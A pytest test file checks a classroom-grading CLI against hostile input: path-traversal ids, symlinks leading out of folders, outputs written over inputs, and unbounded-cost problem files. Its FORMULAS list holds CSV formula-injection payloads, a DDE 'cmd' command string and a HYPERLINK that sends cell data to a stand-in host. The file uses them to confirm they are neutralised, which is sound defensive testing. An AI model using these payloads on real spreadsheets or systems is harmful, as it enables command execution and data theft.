"""Hostile input against the class commands (issue 20): outputs over inputs, ids and paths out of their folders,
CSV formula injection, partial outputs and unbounded cost, each refused as the README's safety section says.

CLI tests run the real CLI as a subprocess on a class made by `derive variants` (hw2_class.toml, --json-only)."""
import csv
import os
import shutil
import time
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from cli_runner import derive_cli, one_by_one
from derive.classroom import csv_files, pool

ROOT = Path(__file__).resolve().parent.parent
CLASS = ROOT / "derive" / "problems" / "hw2_class.toml"
ENV = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))


def run(args, cwd, env=ENV):
    """`derive ARGS` in this process (tests/cli_runner.py), a class's students one by one (the pool is test_classroom's)."""
    return derive_cli(one_by_one(args), cwd, env)


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def snapshot(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(Path(folder).rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def made_class(tmp_path_factory):
    """A class of two (v001, v002), JSON only, and a submission folder: v001 hands in its own answers' keys."""
    base = tmp_path_factory.mktemp("class")
    done = run(["variants", CLASS, "--count", "2", "--json-only", "-o", base / "D"], base)
    assert done.returncode == 0, done.stderr
    (base / "subs").mkdir()
    (base / "subs" / "v001.toml").write_text('"it1.loss" = 0.5\n')
    return base


@pytest.fixture
def klass(made_class, tmp_path):
    """A fresh copy of the class for a test to attack."""
    shutil.copytree(made_class / "D", tmp_path / "D")
    shutil.copytree(made_class / "subs", tmp_path / "subs")
    return tmp_path


def one_line_exit_2(done, *words):
    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
    for word in words:
        assert word in done.stderr, done.stderr


# --- 1, 2: an output may not replace an input ------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.sample
@pytest.mark.parametrize("target", ["D/variants.csv", "subs/v001.toml"])
def test_grade_refuses_an_output_over_its_inputs(klass, target):
    before = snapshot(klass)
    done = run(["grade", "D", "--claims", "subs", "-o", target], klass)
    one_line_exit_2(done, target.split("/")[-1], "input")
    assert snapshot(klass) == before


def test_variants_refuses_to_overwrite_its_problem_file_or_roster(tmp_path):
    source = tmp_path / "D" / "p" / "p.toml"
    source.parent.mkdir(parents=True)
    shutil.copy(CLASS, source)
    roster = tmp_path / "r.csv"
    roster.write_text("id\np\nq\n")
    before = snapshot(tmp_path)
    one_line_exit_2(run(["variants", source, "--roster", roster, "--json-only", "-o", tmp_path / "D"], tmp_path),
                    "p.toml", "input")
    assert snapshot(tmp_path) == before
    listed = tmp_path / "E" / "variants.csv"
    listed.parent.mkdir()
    listed.write_text("id\ns1\n")
    before = snapshot(tmp_path)
    one_line_exit_2(run(["variants", CLASS, "--roster", listed, "--json-only", "-o", tmp_path / "E"], tmp_path),
                    "variants.csv", "input")
    assert snapshot(tmp_path) == before


# --- 3: ids and paths read back from variants.csv -----------------------------------------------------
def _edit_variants(folder, change):
    path = folder / "D" / "variants.csv"
    rows = read_csv(path)
    change(rows)
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)


@pytest.mark.slow
@pytest.mark.sample
@pytest.mark.parametrize("bad", ["../../ESC", "/tmp/ESC", "..", "a/b", "v002"])
def test_grade_refuses_an_id_the_roster_would_refuse(klass, bad):
    escape = klass.parent / "ESC.toml"
    escape.write_text('"it1.loss" = 0.5\n')

    def change(rows):
        rows[1][0] = bad  # v002 again: a duplicate id
    _edit_variants(klass, change)
    before = snapshot(klass)
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass)
    one_line_exit_2(done, "variants.csv", "id (line")
    assert snapshot(klass) == before and not (klass.parent / "ESC-marked.pdf").exists()


def test_grade_does_not_follow_a_link_out_of_the_submissions_folder(klass):
    secret = klass / "secret.toml"
    secret.write_text('"it1.loss" = 0.5\n')
    (klass / "subs" / "v002.toml").symlink_to(secret)
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
    assert done.returncode == 0, done.stderr
    head, *lines = read_csv(klass / "g.csv")
    rows = {r[0]: dict(zip(head, r)) for r in lines}
    assert rows["v002"]["status"] == "broken" and "outside" in rows["v002"]["reason"]


def test_grade_refuses_a_variant_path_through_a_link_out_of_the_folder(klass):
    outside = klass / "elsewhere"
    shutil.copytree(klass / "D" / "v001", outside)
    shutil.rmtree(klass / "D" / "v001")
    (klass / "D" / "v001").symlink_to(outside)
    one_line_exit_2(run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass), "problem (v001)")


# --- 4: CSV formula injection -------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


@pytest.mark.slow
@pytest.mark.sample
@pytest.mark.parametrize("formula", FORMULAS)
def test_grades_csv_neutralises_formulas_from_variants_csv(klass, formula):
    def change(rows):
        status = rows[0].index("status")
        rows[2][status] = formula
    _edit_variants(klass, change)
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
    assert done.returncode == 0, done.stderr
    for row in read_csv(klass / "g.csv"):
        for cell in row:
            assert not cell.startswith(csv_files.FORMULA_START) or csv_files.PLAIN_NUMBER.match(cell), cell
    head, _, second, *_ = read_csv(klass / "g.csv")
    assert dict(zip(head, second))["reason"] == "'" + formula


@given(st.text(max_size=30))
def test_a_csv_cell_never_starts_a_formula_and_keeps_its_text(text):
    out = csv_files.cell(text)
    assert out in (text, "'" + text)
    assert not out.startswith(csv_files.FORMULA_START) or csv_files.PLAIN_NUMBER.match(out)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_stays_a_number_in_csv(number):
    assert csv_files.cell(number) == str(number)


# --- 5, 6: all or nothing --------------------------------------------------------------------------------
def test_variants_refuses_a_folder_named_variants_csv_before_any_work(tmp_path):
    (tmp_path / "D" / "variants.csv").mkdir(parents=True)
    done = run(["variants", CLASS, "--count", "2", "--json-only", "-o", tmp_path / "D"], tmp_path)
    one_line_exit_2(done, "variants.csv")
    assert [p.name for p in (tmp_path / "D").iterdir()] == ["variants.csv"]


def test_grade_refuses_a_folder_as_its_output_before_any_marked_sheet(klass):
    (klass / "g.csv").mkdir()
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass)
    one_line_exit_2(done, "g.csv")
    assert not (klass / "m").exists()


def test_grade_with_marked_sheets_and_no_tex_writes_nothing(klass):
    env = dict(ENV, PATH=str(klass / "no-tex-here"))
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass, env=env)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert not (klass / "g.csv").exists() and not (klass / "m").exists()


# --- 9: cost at scale -------------------------------------------------------------------------------------
def _pid(_):
    return os.getpid()


def test_jobs_are_capped_at_the_cores():
    pids = set(pool.run(_pid, list(range(4 * pool.cores() + 4)), None, workers=256))
    assert len(pids) <= pool.cores()


def test_grade_refuses_more_rows_than_students_before_any_work(klass):
    from derive.classroom.roster import MAX_STUDENTS

    path = klass / "D" / "variants.csv"
    head = path.read_text().splitlines()[0]
    path.write_text(head + "\n" + "".join(f"s{n},1,0,,,,,,,not made\n" for n in range(MAX_STUDENTS + 1)))
    start = time.process_time()
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
    one_line_exit_2(done, f"at most {MAX_STUDENTS} students")
    assert not (klass / "g.csv").exists() and time.process_time() - start < 30


@given(st.lists(st.lists(st.text(max_size=8), min_size=3, max_size=3), max_size=4))
def test_csv_text_reads_back_cell_for_cell(rows):
    text = csv_files.csv_text(["a", "b", "c"], rows)
    import io

    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back == [["a", "b", "c"]] + [[csv_files.cell(c) for c in row] for row in rows]


# --- 7, 8: cost bounds enforced before the work ----------------------------------------------------------
def _long_class(folder, iterations, draws):
    """hw2_class.toml trained for `iterations` iterations, with `draws` draws a variant."""
    text = CLASS.read_text().replace("iterations = 2", f"iterations = {iterations}")
    path = folder / "long.toml"
    path.write_text(text + f"draws = {draws}\n")
    return path


def test_grade_keeps_checks_bound_on_the_numbers_it_recomputes(tmp_path):
    from derive.problem import limits, spec

    source = _long_class(tmp_path, 2, 1)
    assert run(["variants", source, "--count", "1", "--json-only", "-o", "D"], tmp_path).returncode in (0, 1)
    variant = tmp_path / "D" / "v001" / "v001.toml"  # the variant trained for 2000 iterations: beyond check's bound
    variant.write_text(variant.read_text().replace("\niterations = 2\n", "\niterations = 2000\n"))
    assert limits.values(spec.load(variant)) > limits.MAX_CHECK_VALUES
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "v001.toml").write_text('"it1.loss" = 0.5\n')
    before = time.process_time()
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], tmp_path)
    cpu = time.process_time() - before  # the CLI runs in this process: refused before any of the 2000 iterations
    assert done.returncode == 0, done.stderr
    head, row = read_csv(tmp_path / "g.csv")[:2]
    row = dict(zip(head, row))
    assert row["status"] == "no variant" and str(limits.MAX_CHECK_VALUES) in row["reason"], row
    assert cpu < 30, cpu


def test_variants_bounds_draws_times_the_problem_size_before_drawing(tmp_path):
    from derive.problem import limits

    source = _long_class(tmp_path, 10_000, 1000)
    before = time.process_time()
    done = run(["variants", source, "--count", "1", "--json-only", "-o", "D"], tmp_path)
    cpu = time.process_time() - before  # the CLI runs in this process
    one_line_exit_2(done, "vary.draws", str(limits.MAX_DRAW_VALUES))
    assert not (tmp_path / "D").exists() and cpu < 30, cpu


# --- 10, 12, 13, 14: crashes and wrong draws ----------------------------------------------------------
def _class_with(tmp_path, lines, name="p.toml"):
    path = tmp_path / name
    path.write_text(CLASS.read_text() + "\n".join(lines) + "\n")
    return path


def test_a_vary_index_of_thousands_of_digits_is_bad_input(tmp_path):
    source = _class_with(tmp_path, [f'"data.y[{"9" * 5000}]" = {{choices = [0, 1]}}'])
    one_line_exit_2(run(["variants", source, "--count", "1", "--json-only", "-o", "D"], tmp_path),
                    "vary.data.y[", "an element within")


def test_a_problem_file_name_with_a_newline_stays_in_the_comments(tmp_path):
    import tomllib

    source = _class_with(tmp_path, [], name="hw\nx = 1.toml")
    done = run(["variants", source, "--count", "1", "--json-only", "-o", "D"], tmp_path)
    assert done.returncode == 0, done.stderr
    variant = tomllib.loads((tmp_path / "D" / "v001" / "v001.toml").read_text())
    assert "x" not in variant
    claims = run(["claims", source], tmp_path)
    assert claims.returncode == 0, claims.stderr
    assert tomllib.loads(claims.stdout) == {}  # every line of a blank claims file is a comment
    assert tomllib.loads((tmp_path / "D" / "v001" / "v001-claims.toml").read_text()) == {}


def test_labels_drawn_between_zero_and_one_are_refused_before_drawing(tmp_path):
    source = _class_with(tmp_path, ["data.y = {uniform = [0, 1], decimals = 2}"])
    done = run(["variants", source, "--count", "2", "--json-only", "-o", "D"], tmp_path)
    one_line_exit_2(done, "vary.data.y", "values the problem accepts")
    assert "overflow" not in done.stderr and not (tmp_path / "D").exists()


def test_a_uniform_range_too_wide_for_the_hash_is_refused():
    from derive.problem import spec
    from derive.classroom.vary import MAX_GRID, plan_of
    from derive.errors import InputError
    import tomllib

    raw = tomllib.loads(CLASS.read_text())
    raw["vary"]["data"]["x"] = {"uniform": [-1e40, 1e40]}
    with pytest.raises(InputError, match="at most"):
        plan_of(spec.parse(raw, Path("p.toml")))
    # within the bound, a wide range is drawn over all of it, not its low end
    half = MAX_GRID // 2 // 10**2 - 1
    raw["vary"]["data"]["x"] = {"uniform": [-half, half], "decimals": 2}
    from derive.classroom.vary import draw

    plan = plan_of(spec.parse(raw, Path("p.toml")))
    values = [v for n in range(20) for row in draw(plan, n, 0)["data"]["x"] for v in row]
    assert min(values) < -half / 2 and max(values) > half / 2


# --- 18: a submission under another student's id -----------------------------------------------------------
def _correct_claims(problem, path):
    """A claims file of every asked number of the variant `problem`, each its true value to 6 decimals."""
    import json

    import numpy as np

    from derive.classroom.questions import asked
    from derive.engine.pipeline import solve_file

    trace = solve_file(problem)
    path.write_text("".join(f'"{k}" = {json.dumps(np.round(np.asarray(trace[k].export(), dtype=float), 6).tolist())}\n'
                            for k in asked(trace)))


def test_grade_names_the_variant_a_submission_matches_better_than_its_own(klass):
    _correct_claims(klass / "D" / "v001" / "v001.toml", klass / "subs" / "v002.toml")  # v001's work, as v002
    _correct_claims(klass / "D" / "v001" / "v001.toml", klass / "subs" / "v001.toml")
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
    assert done.returncode == 0, done.stderr
    table = read_csv(klass / "g.csv")
    rows = {r[0]: dict(zip(table[0], r)) for r in table[1:]}
    assert rows["v002"]["other_variant"] == "v001" and float(rows["v002"]["score"]) < 100
    assert rows["v001"]["other_variant"] == "" and float(rows["v001"]["score"]) == 100
    assert "v002: the claims match v001's variant" in done.stderr


@pytest.mark.slow
def test_grade_puts_the_marked_sheets_in_place_with_grades_csv(klass):
    from conftest import need

    need("tex")
    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in (klass / "m").iterdir()) == ["v001-marked.pdf"]  # nothing staged is left
    assert (klass / "m" / "v001-marked.pdf").read_bytes().startswith(b"%PDF")
    head, first, *_ = read_csv(klass / "g.csv")
    assert dict(zip(head, first))["marked"] == "m/v001-marked.pdf"


def test_export_and_report_refuse_an_output_over_their_inputs(klass):
    variants = (klass / "D" / "variants.csv").read_bytes()
    done = run(["export", "moodle", "D", "-o", "D/variants.csv"], klass)
    assert done.returncode == 2 and "variants.csv" in done.stderr and "input" in done.stderr, done.stderr
    assert (klass / "D" / "variants.csv").read_bytes() == variants
    graded = run(["grade", "D", "--claims", "subs", "-o", "report.html"], klass)
    assert graded.returncode == 0, graded.stderr
    grades = (klass / "report.html").read_bytes()
    done = run(["report", "D", "report.html", "--no-pdf"], klass)
    assert done.returncode == 2 and "input" in done.stderr, done.stderr
    assert (klass / "report.html").read_bytes() == grades
